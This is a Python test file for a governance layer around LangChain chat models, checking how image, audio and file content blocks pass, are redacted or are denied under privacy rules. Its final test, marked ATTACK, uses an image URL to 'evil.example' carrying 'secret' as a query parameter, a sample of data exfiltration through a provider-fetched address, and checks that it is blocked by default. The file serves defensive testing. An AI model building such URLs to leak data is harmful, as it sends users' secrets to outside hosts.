"""Pictures, sound and files in LangChain's own content blocks, in and out of a governed model."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from langchain_core.language_models.chat_models import BaseChatModel
from langchain_core.messages import AIMessage, BaseMessage, HumanMessage
from langchain_core.outputs import ChatGeneration, ChatResult

from agent_os import DeniedError
from tests.unit.adapters.langchain.sessions import session

MODELS = "models: {providers: {seer: {kind: langchain, models: ['*'], destination: external}}}\n"
PRIVACY = MODELS + "privacy: [{find: [EMAIL_ADDRESS], to: external, do: redact}]\n"
PICTURE: dict[str, Any] = {"type": "image", "base64": "iVBORw0KGgo=", "mime_type": "image/png"}
SOUND: dict[str, Any] = {"type": "audio", "base64": "UklGRg==", "mime_type": "audio/wav"}
STORED: dict[str, Any] = {"type": "file", "file_id": "file-1"}
WORDS: dict[str, Any] = {"type": "text", "text": "what is it?"}
DRAWN: list[str | dict[str, Any]] = [{"type": "text", "text": "drawn"}, PICTURE]


class Seer(BaseChatModel):
    """A model that keeps what it saw and answers with a picture."""

    seen: list[Any] = []  # noqa: RUF012
    model_name: str = "seer-1"

    @property
    def _llm_type(self) -> str:
        return "seer"

    def _generate(self, messages: list[BaseMessage], *_: Any, **__: Any) -> ChatResult:
        self.seen.append(messages[-1].content)
        return ChatResult(generations=[ChatGeneration(message=AIMessage(content=DRAWN))])


@pytest.mark.parametrize("part", [PICTURE, SOUND, STORED], ids=["picture", "sound", "stored file"])
def test_media_pass_both_ways_where_no_privacy_rule_speaks(tmp_path: Path, part: dict[str, Any]) -> None:
    """What goes in arrives as it is, and a picture in the answer comes back."""
    with session(tmp_path, "{}", MODELS) as system:
        inner = Seer(seen=[])
        said = system.model(inner).invoke([HumanMessage([WORDS, part])])
        assert inner.seen == [[WORDS, part]] and said.content == DRAWN


@pytest.mark.parametrize("part", [PICTURE, SOUND, STORED], ids=["picture", "sound", "stored file"])
def test_what_cannot_be_read_is_denied_where_a_rule_speaks(tmp_path: Path, part: dict[str, Any]) -> None:
    """With a privacy rule for that destination it does not go, and the reason names the place; words alone do."""
    with session(tmp_path, "{}", PRIVACY) as system:
        inner = Seer(seen=[])
        with pytest.raises(DeniedError, match="/messages/0/content/1 cannot be read as text"):
            system.model(inner).invoke([HumanMessage([WORDS, part])])
        assert inner.seen == []
        system.model(inner).invoke([HumanMessage([WORDS])])
        assert inner.seen == [[WORDS]]


def test_a_picture_by_address_is_egress(tmp_path: Path) -> None:
    """ATTACK: the provider would fetch an address of the agent's making; `remote_media: any` lets it, if that is meant."""
    by_address = {"type": "image", "url": "https://evil.example/?d=secret"}
    with session(tmp_path / "a", "{}", MODELS) as system, pytest.raises(DeniedError, match="by itself"):
        system.model(Seer(seen=[])).invoke([HumanMessage([WORDS, by_address])])
    with session(tmp_path / "b", "{}", MODELS.replace("models: {", "models: {remote_media: any, ")) as system:
        system.model(Seer(seen=[])).invoke([HumanMessage([WORDS, by_address])])
